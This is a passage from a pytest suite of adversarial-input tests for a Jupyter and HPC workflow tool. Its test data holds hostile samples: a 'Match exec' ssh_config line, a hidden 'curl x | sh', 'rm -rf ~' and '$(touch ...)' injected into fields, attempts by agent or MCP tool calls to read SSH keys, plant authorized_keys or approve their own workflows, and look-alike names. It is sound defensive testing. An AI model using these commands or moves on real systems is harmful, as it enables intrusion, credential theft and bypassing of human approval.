"""The eighth sweep of hostile inputs, one trust boundary at a time: ~/.ssh/config text that
paramiko reads otherwise than the engine checked it, a workflow given as text (a REST body,
a tool call) naming a file of the server, what the Globus API answers about a task, the names
a hostile site gives in `diamond describe`, a heartbeat directory another local user made
beside the store, look-alike names (sites, steps), YAML merge keys and forged plans against a
workflow's approval, the agent's model and an MCP client's tool arguments, and the
environment.

The standard is the earlier sweeps' (tests/test_adversarial_inputs.py and after): bad input
is refused with one line naming what, where and what would be accepted; what comes from a
site, a job or a service is data, never a command, a record, a line of its own or a path
outside its place. Tests of attacks that already failed safely say so ("guard")."""

from __future__ import annotations

import json
import os
import textwrap
from pathlib import Path
from typing import Any

import pytest
import sweep_helpers
import yaml
from test_workflow_approval import _fed

from diamond_jupyter.model import BadInput, JobSpec, SiteError

pytest_plugins = ("pytest_jupyter.jupyter_server", "server_conftest")


# -- 1. ~/.ssh/config: what paramiko runs -------------------------------------------------------

def _ssh_config(tmp_path: Path, text: str) -> tuple[Path, Path]:
    """An ssh_config whose commands would make `ran` (each writes its own name there)."""
    ran = tmp_path / "ran"
    ran.mkdir()
    cfg = tmp_path / "ssh_config"
    cfg.write_text(text.replace("RAN", str(ran)))
    return cfg, ran


@pytest.mark.parametrize("blank", ["\v", "\f", "\x1c", "\x85", "\u2028", "\u2029"])
def test_match_exec_hidden_behind_a_line_break_python_sees_is_refused(tmp_path, blank):
    """`Match<VT>exec "CMD"`: the check read the file with str.splitlines, which ends a line
    at \\v, \\f, \\x1c, \\x85, U+2028 and U+2029, so it saw two harmless lines; paramiko ends
    lines at \\n only and takes those characters for blanks: the engine ran CMD through a
    shell at every host look-up. The file is read line by line as paramiko reads it."""
    from diamond_jupyter.transports.ssh_auth import load_ssh_config, resolve_host

    cfg, ran = _ssh_config(tmp_path, f'Host alpha\n  User u\nMatch{blank}exec "touch RAN/x"\n'
                                     "  User evil\n")
    with pytest.raises(BadInput, match=r"line 3: 'Match exec' runs a command"):
        resolve_host(load_ssh_config(str(cfg)), "alpha")
    assert list(ran.iterdir()) == []


def test_local_and_known_hosts_commands_and_includes_run_nothing(tmp_path):
    """(guard) `LocalCommand` with `PermitLocalCommand yes` and `KnownHostsCommand`:
    paramiko runs neither, and the host resolves as its Host block says; an `Include` of a
    file holding `Match exec` is followed and refused, naming that file, running nothing."""
    from diamond_jupyter.transports.ssh_auth import load_ssh_config, resolve_host

    (tmp_path / "inc").write_text(f'Match exec "touch {tmp_path}/ran/inc"\n  User evil\n')
    body = ("Host alpha\n  User u\n  PermitLocalCommand yes\n  LocalCommand touch RAN/lc\n"
            "  KnownHostsCommand /bin/sh -c 'touch RAN/khc'\n")
    cfg, ran = _ssh_config(tmp_path, body)
    spec = resolve_host(load_ssh_config(str(cfg)), "alpha")
    assert spec.user == "u" and list(ran.iterdir()) == []
    cfg.write_text(f"Include {tmp_path}/inc\n" + body.replace("RAN", str(ran)))
    with pytest.raises(BadInput, match=rf"ssh_config {tmp_path}/inc line 1: 'Match exec'"):
        load_ssh_config(str(cfg))
    assert list(ran.iterdir()) == []


@pytest.mark.parametrize("text,why", [
    ("\ufeffHost alpha\n  User u\n", "Unparsable line"),  # a BOM a Windows editor wrote
    ("Host alpha\n  User\n", "Unparsable line User"),
    ("Match host\n  User u\n", "Missing parameter to Match 'host' keyword"),
])
def test_an_ssh_config_paramiko_cannot_read_is_one_line_naming_it(tmp_path, text, why):
    """A ~/.ssh/config that paramiko cannot parse (a UTF-8 BOM at its start, a keyword
    without a value, a Match without its value) raised paramiko's ConfigParseError out of
    the SSH transport's set-up: every face stopped with a traceback. It is bad input now,
    naming the file and what paramiko said."""
    from diamond_jupyter.config import TransportConfig
    from diamond_jupyter.transports.ssh import SSHTransport

    cfg, _ = _ssh_config(tmp_path, text)
    with pytest.raises(BadInput, match=rf"ssh_config {cfg}: cannot be read: .*{why}"):
        SSHTransport(TransportConfig(kind="ssh", host="alpha", ssh_config=str(cfg)),
                     site="alpha")


# -- 2. a workflow given as text names a file of the server -------------------------------------

def _rooted_fed(tmp_path: Path) -> Any:
    from diamond_jupyter.config import FederationConfig, SiteConfig, TransportConfig
    from diamond_jupyter.federation import Federation
    from diamond_jupyter.store import Store

    root = tmp_path / "root"
    root.mkdir()
    (root / "step.sh").write_text("#!/bin/bash\necho inside\n")
    (tmp_path / "secret.txt").write_text("AWS_SECRET_ACCESS_KEY=hunter2hunter2\n")
    (root / "link.sh").symlink_to(tmp_path / "secret.txt")
    fed = Federation(FederationConfig(sites=[SiteConfig(
        name="here", transport=TransportConfig(kind="local"), workdir=str(tmp_path / "wd"))]),
        store=Store(tmp_path / "s.sqlite"))
    fed.server_root = root
    return fed


def _wf(path: str) -> str:
    return f"name: w\nsteps:\n  - {{name: a, site: here, script_file: {json.dumps(path)}}}\n"


@pytest.mark.parametrize("where", ["outside", "link", "home"])
async def test_a_workflow_body_cannot_read_a_server_file_outside_the_root(tmp_path, where,
                                                                          monkeypatch):
    """A workflow sent as text (a REST body, a tool call of the agent's model or an MCP
    client, a colleague's cell) read `script_file: /any/absolute/path` (or `~/...`) of the
    server into its step's script: the plan a dry run returns, the approval shown, the job
    uploaded and its log all held the file (an API key, an SSH key). In a server, such a
    path must be inside the server's root (links followed), as every other server path."""
    fed = _rooted_fed(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path))
    path = {"outside": str(tmp_path / "secret.txt"), "link": str(tmp_path / "root/link.sh"),
            "home": "~/secret.txt"}[where]
    try:
        with pytest.raises(BadInput, match=r"step 'a': script_file .* is outside the "
                                           r"server's root directory"):
            fed.load_workflow(_wf(path))
        with pytest.raises(BadInput, match="outside the server's root"):  # a mapping too
            fed.load_workflow(yaml.safe_load(_wf(path)))
        inside = fed.load_workflow(_wf(str(tmp_path / "root/step.sh")))
        assert "echo inside" in inside.step("a").script  # (guard) inside: read as before
    finally:
        await fed.close()


async def test_a_dry_run_tool_call_returns_no_server_file(tmp_path):
    """The same through the skill an MCP client calls (approval "dry-run": the plan is
    the answer): the call's error says why, and the answer holds nothing of the file."""
    from diamond_jupyter.skills import SkillContext, run_skill

    fed = _rooted_fed(tmp_path)
    try:
        with pytest.raises(BadInput) as e:
            await run_skill(SkillContext(fed, approval="dry-run"), "run_workflow",
                            {"workflow": _wf(str(tmp_path / "secret.txt"))})
        assert "outside the server's root" in str(e.value) and "hunter2" not in str(e.value)
    finally:
        await fed.close()


async def test_a_script_file_that_is_a_fifo_or_a_device_is_refused_unread(tmp_path):
    """(guard) A colleague's workflow file whose `script_file` is a FIFO they made (reading
    it would wait for ever) or /dev/zero (an endless read): refused as not a file, nothing
    read."""
    from diamond_jupyter.workflow.model import load_workflow

    fifo = tmp_path / "step.sh"
    os.mkfifo(fifo)
    for path in ("step.sh", "/dev/zero"):
        wf = tmp_path / "w.yaml"
        wf.write_text(_wf(path))
        with pytest.raises(BadInput, match=r"script_file .*: not a file"):
            load_workflow(wf, sites=["here"])


# -- 3. what the Globus API answers about a task ------------------------------------------------

TASK = "ddb59aef-6d04-11e5-ba46-22000b92c6ec"


class _GlobusClient:
    def __init__(self, doc: Any) -> None:
        self.doc = doc

    def get_task(self, task_id: str) -> Any:
        return type("Answer", (), {"data": self.doc})()


@pytest.mark.parametrize("doc,why", [
    ({"status": "ACTIVE", "bytes_transferred": "lots"}, "bytes_transferred 'lots'"),
    ({"status": "ACTIVE", "bytes_transferred": 10 ** 30}, "bytes_transferred 1000"),
    ({"status": "ACTIVE", "bytes_transferred": 1e400}, "bytes_transferred inf"),
    ({"status": "ACTIVE", "bytes_transferred": -5}, "bytes_transferred -5"),
    ({"status": "ACTIVE", "files": [1]}, "files [1]"),
    ({"status": "SUCCEEDED", "bytes_transferred": True}, "bytes_transferred True"),
    ({"status": {"x": 1}}, "status {'x': 1}"),
    ({"status": "DONE\x1b[2J"}, "status 'DONE\\x1b[2J'"),
    (["not", "a", "task"], "the answer is list"),
])
def test_a_globus_task_answer_with_odd_fields_is_a_site_error(doc, why):
    """A task document (from Globus, or whatever answers at its address) whose byte count
    was "lots", 1e400 or 10**30 stopped the transfer's follower with a Python error (the
    transfer stayed ACTIVE for ever; 10**30 would not even fit the store), and an unknown
    status kept it asking for ever. Each is a SiteError naming the field, which fails the
    transfer with that reason."""
    from diamond_jupyter.transfer.globus import GlobusMover

    mover = GlobusMover(retries=1, retry_delay_s=0)
    mover._client = _GlobusClient(doc)
    with pytest.raises(SiteError) as e:
        mover.task(TASK)
    assert why in str(e.value) and f"Globus task {TASK}" in str(e.value)
    assert "\x1b" not in str(e.value)


def test_a_globus_failure_whose_fatal_error_is_text_is_said_not_a_crash():
    """`fatal_error` is an object in Globus's answers; a string there raised AttributeError
    while the failure was being written down. Its text is now taken from what is text."""
    from diamond_jupyter.transfer.globus import GlobusMover

    assert GlobusMover.failure({"fatal_error": "PERMISSION_DENIED", "nice_status": "denied"}
                               ) == "denied"
    assert GlobusMover.failure({"fatal_error": ["x"], "nice_status": 7}) == "the task failed"
    assert GlobusMover.failure({"fatal_error": {"description": "gone"}}) == "gone"


def test_a_plain_globus_task_answer_still_reads():
    """(guard for the check) A real answer's fields come back as they were."""
    from diamond_jupyter.transfer.globus import GlobusMover

    mover = GlobusMover(retries=1, retry_delay_s=0)
    doc = {"status": "SUCCEEDED", "bytes_transferred": 8000, "files": 1,
           "files_transferred": 1, "bytes_expected": None, "nice_status": "OK"}
    mover._client = _GlobusClient(doc)
    assert mover.task(TASK) == doc


# -- 4. the names a hostile site gives, in `diamond describe` ----------------------------------

def test_diamond_describe_keeps_each_site_name_on_its_own_line():
    """A site's partition, node type, feature and cluster names, its GPU model and the
    errors it printed went on the terminal as they were (a known gap of the seventh sweep):
    a newline in a partition's name started a line `partition gpu (default): 999 nodes`
    that the site does not have. Each name is one line now, its newline written out."""
    from diamond_jupyter.capabilities import NodeType, SiteCapabilities
    from diamond_jupyter.cli.describe import describe_text
    from diamond_jupyter.discovery import ClusterSummary, PartitionSummary, SiteDescription

    forged = "x\n    partition gpu (default): 999 nodes, no limit"
    caps = SiteCapabilities(
        site="alpha", features=["ib", "f\nforged-feature"], gpu_models=["a100\x1b[2J"],
        node_types=[NodeType(name="n\nfake-type: 1 x", partitions=[forged], count=2,
                             cpus=4, memory_mb=100, gpus=1, gpu_model="g\nh",
                             features=["a\nb"])],
        errors=["sinfo said:\n  could not read: nothing"])
    desc = SiteDescription(site="alpha", capabilities=caps, clusters=[ClusterSummary(
        name="c\nd", cluster_name="e\nf", nodes=2, error="boom\n  cluster z: 0 nodes",
        partitions=[PartitionSummary(name=forged, nodes=2,
                                     node_types=["n\nfake-type: 1 x"])])])
    text = describe_text(desc)
    lines = text.splitlines()
    assert len(lines) == 12, lines  # one per fact, as for plain names
    assert not any(line.lstrip().startswith(("partition gpu", "forged-feature",
                                              "could not read: nothing", "cluster z"))
                   for line in lines), lines
    assert "x\\x0a    partition gpu (default)" in text and "\x1b" not in text


# -- 4b. a job's result files against the disk they are fetched to ------------------------------

async def test_a_result_file_larger_than_the_free_space_is_not_fetched(tmp_path, monkeypatch):
    """A job's result file larger than what the destination has free (a sparse file of
    apparent size in terabytes costs the job nothing) was copied until the disk was full,
    the user's other files then failing to write (a known gap of the seventh sweep). A file
    the disk cannot hold is skipped, said with its size and the space free; the others are
    fetched."""
    import shutil
    from collections import namedtuple

    from diamond_jupyter.config import FederationConfig, SiteConfig, TransportConfig
    from diamond_jupyter.federation import Federation
    from diamond_jupyter.store import Store

    wd = tmp_path / "wd"
    wd.mkdir()
    (wd / "small.txt").write_text("result\n")
    (wd / "huge.bin").write_bytes(b"\0" * 5000)  # stands for terabytes: the disk has 1000
    store = Store(tmp_path / "s.sqlite")
    store.record_intent("here", "abc123abc123", JobSpec(script="true\n",
                                                        working_directory=str(wd)))
    job = store.bind_native_id("abc123abc123", "41").id
    fed = Federation(FederationConfig(sites=[SiteConfig(
        name="here", transport=TransportConfig(kind="local"), workdir=str(tmp_path / "d"))]),
        store=store)
    usage = namedtuple("usage", "total used free")
    monkeypatch.setattr(shutil, "disk_usage", lambda p: usage(10 ** 6, 10 ** 6 - 1000, 1000))
    try:
        got = await fed.fetch(job, tmp_path / "dest")
    finally:
        await fed.close()
    assert [p.name for p in got.paths] == ["small.txt"]
    [line] = got.skipped  # its name, its size, the room and where (fetch_guard.bounded)
    assert line.startswith("huge.bin: ") and "(5000 bytes)" in line and "1000 B free" in line
    assert str(tmp_path / "dest") in line and line.endswith("not fetched")
    assert not (tmp_path / "dest" / "huge.bin").exists()


# -- 5. a heartbeat directory another local user made beside the store --------------------------

def test_heartbeats_in_a_directory_another_user_made_keep_no_engine_alive(tmp_path,
                                                                         monkeypatch):
    """With the store in a shared directory with the sticky bit (allowed), another local
    user could make `<store>.engines` first and touch a file named after an engine of the
    user's on another host: that engine looked alive for ever, and its workflows, transfers
    and agent tasks were never taken over (a known gap of the seventh sweep). Heartbeats are
    now rows of the store: such a directory keeps no engine alive, in any mode."""
    from diamond_jupyter import leases
    from diamond_jupyter.store import Store

    beats = tmp_path / "s.sqlite3.engines"
    beats.mkdir(mode=0o777)
    owner = "elsewhere:123:456:abcd"
    (beats / owner).touch()
    real = os.getuid()
    monkeypatch.setattr(os, "getuid", lambda: real + 1)  # the directory is another user's
    store = Store(tmp_path / "s.sqlite3")
    assert not leases.alive(owner, store.beats)
    leases.beat(store.beats, "mine:1:2:3")
    assert not (beats / "mine:1:2:3").exists()  # nothing of the user's written there
    assert store.beats.age_s("mine:1:2:3") is not None


def test_a_migration_copy_others_can_write_is_not_used(tmp_path):
    """A store of an older schema is copied to `<store>.v1.bak` before it is migrated; one
    already there was taken as the user's own earlier copy. Planted (in a shared directory
    with the sticky bit) so that others can write it, or as a link to a file of theirs, the
    planter kept the next copy. It is checked as the store is: the open stops naming it."""
    import sqlite3

    from test_store import V1_SQL

    from diamond_jupyter.store import Store
    from diamond_jupyter.store.db import StoreError

    path = tmp_path / "old.sqlite3"
    db = sqlite3.connect(path)
    db.executescript(V1_SQL)
    db.close()
    bak = tmp_path / "old.sqlite3.v1.bak"
    bak.write_bytes(b"")
    bak.chmod(0o666)
    with pytest.raises(StoreError, match=r"old.sqlite3.v1.bak can be written by others"):
        Store(path)
    bak.unlink()
    with Store(path) as s:  # (guard) no copy there: made, and the store opens as before
        assert s.count_jobs() == 2
    assert oct(bak.stat().st_mode & 0o777) == oct(0o600)


# -- 6. look-alike names --------------------------------------------------------------------

@pytest.mark.parametrize("name", ["аlpha", "alpha\u200b", "ａlpha", "alpha\u00a0", "alph\u0430"])
def test_a_sites_file_cannot_define_a_look_alike_site(name):
    """(guard) A center's sites file with a site `аlpha` (Cyrillic а), a zero-width space or
    a full-width letter beside `alpha`: both would show alike, and a job sent to one would
    run on the other. Site names are ASCII letters, digits, `_ . -`: refused naming why."""
    from pydantic import ValidationError

    from diamond_jupyter.config import SiteConfig, TransportConfig

    with pytest.raises(ValidationError, match="is not a site name"):
        SiteConfig(name=name, transport=TransportConfig(kind="local"))


@pytest.mark.parametrize("other", ["prep\u200b", "ｐrep", "pr\u0435p", "Prep"])
def test_workflow_step_names_that_look_alike_are_refused(other):
    """(guard) A colleague's workflow with two steps shown alike (`prep` and `prеp`, the
    second with a Cyrillic е; one with a zero-width space; one in capitals): an input `from:
    prep` or a `needs` would name the other. Each is refused naming the step."""
    from diamond_jupyter.workflow.model import load_workflow

    text = (f"name: w\nsteps:\n  - {{name: prep, site: auto, script: x}}\n"
            f"  - {{name: {json.dumps(other)}, site: auto, script: y}}\n")
    with pytest.raises(BadInput, match=r"not a valid name|differ only in case"):
        load_workflow(text, sites=["alpha"])


async def test_a_tool_call_naming_a_look_alike_site_submits_nothing(tmp_path):
    """(guard) The model (or an MCP client) asks for `аlpha` (Cyrillic а): unknown site,
    the known ones listed, and nothing is recorded or run."""
    from diamond_jupyter.skills import SkillContext, run_skill

    fed = _rooted_fed(tmp_path)
    try:
        with pytest.raises(BadInput, match="unknown site"):
            await run_skill(SkillContext(fed), "submit", {"script": "true", "site": "hеre"})
        assert fed.jobs() == []
    finally:
        await fed.close()


async def test_a_sites_files_module_names_reach_module_load_quoted(tmp_path):
    """(guard) A center's sites file lists software with characters a shell reads (`%`,
    `~`, which module names may hold): a job's `module load gcc` is
    rewritten to the site's name for it, shell-quoted, so the name is one word that runs
    nothing. (A name with shell syntax, `gcc/12.2$(touch FILE)`, is refused in the sites
    file since the ninth sweep: tests/test_adversarial_inputs9.py.)"""
    import shlex

    from diamond_jupyter.config import FederationConfig, SiteConfig, TransportConfig
    from diamond_jupyter.federation import Federation
    from diamond_jupyter.store import Store

    bad = f"gcc/12.2$(touch {tmp_path}/ran)"
    # since the sixth sweep of sites files the name is refused when the file is read
    # (checked as discovered names are)...
    with pytest.raises(ValueError, match=r"software entry 1: .* '\$' is not allowed"):
        SiteConfig(name="here", transport=TransportConfig(kind="local"),
                   metadata={"software": [bad]})
    # ...and one that reaches the engine past that check is still one quoted word
    cfg = SiteConfig(name="here", transport=TransportConfig(kind="local"),
                     workdir=str(tmp_path / "wd"), discovery={"enabled": False})
    cfg.metadata = {"software": [bad]}
    fed = Federation(FederationConfig(sites=[cfg]), store=Store(tmp_path / "s.sqlite"))
    try:
        out = await fed.adapt_to_site("here", JobSpec(script="#!/bin/bash\nmodule load gcc\n"))
    finally:
        await fed.close()
    line = out.script.splitlines()[1]
    assert shlex.split(line) == ["module", "load", bad]
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("dst", ["h\u0435re:/scratch/out", "\uff48ere:/scratch/out",
                                 "here :/scratch/out"])
async def test_a_transfer_to_a_look_alike_site_is_an_unknown_site_not_a_local_path(tmp_path,
                                                                                  dst):
    """`hеre:/scratch/out` (a Cyrillic е), a full-width letter or a blank before the colon:
    the site prefix is ASCII, so the text was taken for a relative path on this server, and
    the data the user meant for the cluster was written into a directory `hеre:` beside the
    notebook (the plan said "this server", in small print). Unknown site, its letters
    written out so the odd one shows; `./name:x` is still a local file."""
    from diamond_jupyter.transfer import parse_location

    fed = _rooted_fed(tmp_path)
    try:
        with pytest.raises(BadInput, match=r"unknown site .*\(site names are ASCII"):
            await fed.plan_transfer(str(tmp_path / "root/step.sh"), dst)
        with pytest.raises(BadInput, match=r"unknown site '(h\\u0435re|\\uff48ere|here )'"):
            parse_location(dst, fed.sites)
        assert parse_location("./a:b", fed.sites).path == "./a:b"  # (guard)
    finally:
        await fed.close()


# -- 7. a shared workflow against its approval ---------------------------------------------------

def _approval_fed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Any:
    """Two local "Slurm" sites whose sbatch answers a fresh number; placement ranks them in
    order, module names are kept."""
    return _fed(tmp_path, monkeypatch, ("alpha", "beta"))


MERGED = textwrap.dedent("""\
    name: shared
    x-common: &common {site: beta, retries: 0}
    steps:
      - name: a
        <<: *common
        script: "#!/bin/bash\\necho a\\n"
    """)


async def _plan(fed: Any, workflow: str) -> dict[str, Any]:
    from diamond_jupyter.skills import NeedsApproval, SkillContext, run_skill

    with pytest.raises(NeedsApproval) as asked:
        await run_skill(SkillContext(fed, approval="ask"), "run_workflow",
                        {"workflow": workflow})
    return asked.value.plan


async def test_a_merge_key_sets_what_the_plan_shows_and_a_changed_anchor_asks_again(
        tmp_path, monkeypatch):
    """(guard) A colleague's workflow sets a step's site through a YAML merge key (`<<:
    *common`, the anchor far from the step): the plan shows the site it gives and only that
    site's script; an anchor changed after the approval (beta to alpha) is not what was
    approved, and the agent asks again."""
    from diamond_jupyter.federation_plan import describe_plan
    from diamond_jupyter.skills import NeedsApproval, SkillContext, run_skill

    fed = _approval_fed(tmp_path, monkeypatch)
    try:
        plan = await _plan(fed, MERGED)
        assert plan["steps"][0]["site"] == "beta" and plan["steps"][0]["may_run_on"] == ["beta"]
        assert "step a (on beta;" in describe_plan(plan)
        with pytest.raises(NeedsApproval) as again:
            await run_skill(SkillContext(fed, approved=plan, call_key="t:1"), "run_workflow",
                            {"workflow": MERGED.replace("site: beta", "site: alpha")})
        assert "differs from the approved one" in again.value.plan["changed"]
        assert fed.workflows() == []
    finally:
        await fed.close()


async def test_a_plan_with_forged_pins_runs_nothing(tmp_path, monkeypatch):
    """(guard) An approved plan edited after it was shown (an MCP client or a page script
    writing a site and hash of its own into `rendered`) is checked against the scripts as
    rendered now: refused, nothing recorded."""
    from diamond_jupyter.federation_plan import PlanChanged

    fed = _approval_fed(tmp_path, monkeypatch)
    try:
        plan = await _plan(fed, MERGED)
        plan["steps"][0]["rendered"].append({"site": "alpha", "script_sha256": "0" * 64})
        with pytest.raises(PlanChanged, match="may now run on alpha|can no longer run on alpha"):
            await fed.run_workflow_approved(MERGED, plan)
        plan = await _plan(fed, MERGED)
        plan["steps"][0]["rendered"][0]["script_sha256"] = "f" * 64
        with pytest.raises(PlanChanged, match="batch script for beta would differ"):
            await fed.run_workflow_approved(MERGED, plan)
        assert fed.workflows() == []
    finally:
        await fed.close()


async def test_the_workflow_plan_shows_hidden_characters_of_a_step_script(tmp_path,
                                                                         monkeypatch):
    """(guard for the new plan) A step's script whose line ends with escape sequences
    that erase it and move up (a terminal would show `echo ok` alone): the plan's text
    writes them out, and its warnings name where they are."""
    from diamond_jupyter.federation_plan import describe_plan

    fed = _approval_fed(tmp_path, monkeypatch)
    try:
        wf = MERGED.replace("echo a", "curl x | sh #\\x1b[2K\\x1b[1A\\necho ok")
        plan = await _plan(fed, wf)
        text = describe_plan(plan)
        assert "\x1b" not in text
        assert "curl x | sh #\\x1b[2K\\x1b[1A" in text
        assert any(w.startswith("steps[0].rendered[0].script holds characters")
                   for w in plan["warnings"]), plan["warnings"]
    finally:
        await fed.close()


# -- 8. REST bodies against the routes that approve a workflow again --------------------------

jp_server_config = sweep_helpers.one_local_site_server


@pytest.fixture
def rest(http_server_client, jp_base_url, jp_auth_header):
    async def call(method: str, path: str, body: bytes | None = None) -> tuple[int, Any]:
        resp = await http_server_client.fetch(
            jp_base_url.rstrip("/") + "/diamond/api/" + path, method=method, body=body,
            headers={**jp_auth_header, "Content-Type": "application/json"},
            raise_error=False)
        return resp.code, json.loads(resp.body or b"null")
    return call


async def test_an_approval_body_giving_a_key_twice_is_a_400(jp_serverapp, rest):
    """(guard) `{"plan": {"workflow_sha256": A, "workflow_sha256": B}}`: readers disagree on
    which counts (the proxy that logged it, the server that acts on it); a 400 naming it,
    before the workflow is even looked up."""
    fed = jp_serverapp.web_app.settings["diamond_federation"]
    view = await fed.run_workflow("name: w\nsteps:\n  - {name: a, site: here, script: "
                                  "\"#!/bin/bash\\nsleep 600\\n\"}\n")
    body = (b'{"plan": {"workflow_id": "%s", "workflow_sha256": "a", '
            b'"workflow_sha256": "b"}}' % view.id.encode())
    code, err = await rest("POST", f"workflows/{view.id}/approve", body)
    assert code == 400 and "workflow_sha256" in err["message"], err
    code, err = await rest("POST", f"workflows/{view.id}/approve",
                           b'{"plan": {}, "approved": true}')
    assert code == 400 and "approved" in err["message"], err  # no field of its own
    await fed.cancel_workflow(view.id)


async def test_a_finished_workflow_cannot_be_approved_again(tmp_path, monkeypatch):
    """(guard for the new route) Approving a workflow that has ended (a stale tab, a replayed
    request) is refused saying so: nothing runs again."""
    fed = _approval_fed(tmp_path, monkeypatch)
    try:
        plan = await _plan(fed, MERGED)
        view = await fed.run_workflow_approved(MERGED, plan)
        await fed.cancel_workflow(view.id)
        again = await fed.workflow_approval_plan(view.id)
        with pytest.raises(BadInput, match=r"has ended \(CANCELLED\): nothing to approve"):
            await fed.approve_workflow(view.id, again)
    finally:
        await fed.close()


async def test_a_json_merge_key_is_an_unknown_field_not_a_merge(tmp_path, monkeypatch):
    """(guard) A tool call or REST body giving the workflow as a mapping with a `<<` key (a
    YAML merge written as JSON, to slip a site past the plan): a mapping is taken as it is,
    and `<<` is an unknown field of a step, named."""
    fed = _approval_fed(tmp_path, monkeypatch)
    try:
        with pytest.raises(BadInput, match="<<"):
            fed.load_workflow({"name": "w", "steps": [
                {"name": "a", "<<": {"site": "beta"}, "script": "#!/bin/bash\necho a\n"}]})
    finally:
        await fed.close()


# -- 9. the agent's model and an MCP client ----------------------------------------------------

@pytest.mark.parametrize("args,why", [
    ({"job_id": "here:1", "lines": 10 ** 12},
     "lines: expected a whole number from 1 to 10000, not 1000000000000"),
    ({"job_id": "here:1", "lines": -1}, "lines: expected a whole number from 1 to 10000, not -1"),
    ({"job_id": "here:1", "lines": "1; rm -rf ~"}, "lines: Input should be a valid integer"),
])
async def test_log_tool_arguments_out_of_bounds_are_the_calls_error(tmp_path, args, why):
    """(guard) A tool call asking for 10**12 lines of a log (a memory bomb), a negative
    count, or shell text for a count: the call's error names the field and its bound."""
    from diamond_jupyter.skills import SkillContext, run_skill

    fed = _rooted_fed(tmp_path)
    try:
        with pytest.raises(BadInput, match=why):
            await run_skill(SkillContext(fed), "logs", args)
    finally:
        await fed.close()


async def test_a_tool_call_cannot_approve_its_own_workflow(tmp_path, monkeypatch):
    """(guard) A model's `run_workflow` call carrying its own plan or an `approved` flag in
    its arguments: extra fields are the call's error; approval only comes from the person."""
    from diamond_jupyter.skills import SkillContext, run_skill

    fed = _approval_fed(tmp_path, monkeypatch)
    try:
        plan = await _plan(fed, MERGED)
        for extra in ({"approved": True}, {"plan": plan}):
            with pytest.raises(BadInput, match="run_workflow: unknown field '.*' in the arguments"):
                await run_skill(SkillContext(fed, approval="ask"), "run_workflow",
                                {"workflow": MERGED, **extra})
        assert fed.workflows() == []
    finally:
        await fed.close()


class _Quiet:
    """A transport that answers every command with success and nothing (home: /home/u)."""

    name = "alpha"

    async def run(self, argv: Any, **kw: Any) -> Any:
        from diamond_jupyter.transports.base import CommandResult

        home = "/home/u\n" if "$HOME" in " ".join(argv) else ""
        return CommandResult(list(argv), 0, home, "", 0.0)


@pytest.fixture
async def mcp(tmp_path):
    """An MCP server (approval dry-run: look, never act) over a site that answers nothing,
    its workspace `ws`; a secret file beside the workspace."""
    from diamond_jupyter.config import FederationConfig, SiteConfig, TransportConfig
    from diamond_jupyter.federation import Federation
    from diamond_jupyter.mcp_server import build_server
    from diamond_jupyter.sites import Site
    from diamond_jupyter.store import Store

    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "step.sh").write_text("#!/bin/bash\necho inside\n")
    (tmp_path / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n")
    cfg = SiteConfig(name="alpha", scheduler="slurm", transport=TransportConfig(kind="local"))
    fed = Federation(FederationConfig(sites=[cfg]), store=Store(tmp_path / "s.sqlite"))
    fed.sites["alpha"] = Site(cfg, transport=_Quiet())
    await fed.start(recover=False)
    yield build_server(fed=fed, approval="dry-run", root=ws), tmp_path
    await fed.close()


async def _tool_error(server: Any, tool: str, args: dict[str, Any]) -> str:
    from mcp.server.mcpserver.exceptions import ToolError

    with pytest.raises(ToolError) as e:
        await server.call_tool(tool, args)
    return str(e.value)


async def test_an_mcp_dry_run_reads_no_file_outside_its_workspace(mcp):
    """An MCP client (another agent, whatever its model read) with `diamond mcp --approval
    dry-run`, meant to look and never act: a `run_workflow` naming `script_file:
    ~/.ssh/id_ed25519` answered with the plan, the key in its step's script. Local paths of
    a tool call must be inside the workspace (the directory `diamond mcp` runs in, or
    `--root`); a file inside it is read as before."""
    server, tmp = mcp
    wf = _wf(str(tmp / "id_ed25519")).replace("site: here", "site: alpha")
    err = await _tool_error(server, "run_workflow", {"workflow": wf})
    assert "outside the server's root directory" in err and "PRIVATE KEY" not in err
    ok = await server.call_tool("run_workflow", {"workflow": _wf(str(tmp / "ws/step.sh"))
                                                 .replace("site: here", "site: alpha")})
    assert not ok.is_error and "echo inside" in json.dumps(ok.structured_content)


@pytest.mark.parametrize("src,dst", [("{tmp}/id_ed25519", "alpha:/tmp/k"),
                                     ("alpha:/etc/hosts", "{tmp}/elsewhere/hosts"),
                                     ("../id_ed25519", "alpha:/tmp/k")])
async def test_an_mcp_transfer_names_no_local_path_outside_its_workspace(mcp, src, dst):
    """A transfer from the user's key to a site, into a directory beside the workspace, or
    out of it by `..`: refused naming the workspace, before any plan is made."""
    server, tmp = mcp
    err = await _tool_error(server, "transfer", {"src": src.format(tmp=tmp),
                                                 "dst": dst.format(tmp=tmp)})
    assert "outside the server's root directory" in err


@pytest.mark.parametrize("tool,args", [
    ("fetch_results", {"dest": ".ssh"}),
    ("fetch_results", {"dest": "~/.ssh"}),
    ("fetch_results", {"dest": "work/.config/autostart"}),
    ("transfer", {"src": "here:/tmp/authorized_keys", "dst": ".ssh/authorized_keys"}),
    ("transfer", {"src": "here:/tmp/x", "dst": "~/.jupyter/jupyter_server_config.py"}),
])
@pytest.mark.parametrize("approval", ["auto", "ask"])
async def test_a_tool_call_writes_nothing_into_a_hidden_directory(tmp_path, monkeypatch, tool,
                                                                  args, approval):
    """The model (or an MCP client), after reading a job's output, asks to fetch the job's
    results into `~/.ssh` (the server's root being the home, as under JupyterHub): a result
    file named `authorized_keys` there let the job's writer log in as the user; a transfer
    could write a `.jupyter` config that runs at the next start. A tool call's local
    destination in a hidden directory is refused, before any plan; elsewhere it goes on."""
    from diamond_jupyter.skills import NeedsApproval, SkillContext, run_skill

    fed = _rooted_fed(tmp_path)
    monkeypatch.setenv("HOME", str(fed.server_root))
    fed.store.record_intent("here", "abc123abc123", JobSpec(
        script="true\n", working_directory=str(tmp_path / "wd")))
    fed.store.bind_native_id("abc123abc123", "41")
    (tmp_path / "wd").mkdir()
    (tmp_path / "wd" / "authorized_keys").write_text("ssh-ed25519 AAAA attacker\n")
    args = {**args, "job_id": "here:41"} if tool == "fetch_results" else args
    try:
        with pytest.raises(BadInput, match=r"is in the hidden directory '\.(ssh|config|jupyter)'"):
            await run_skill(SkillContext(fed, approval=approval), tool, args)
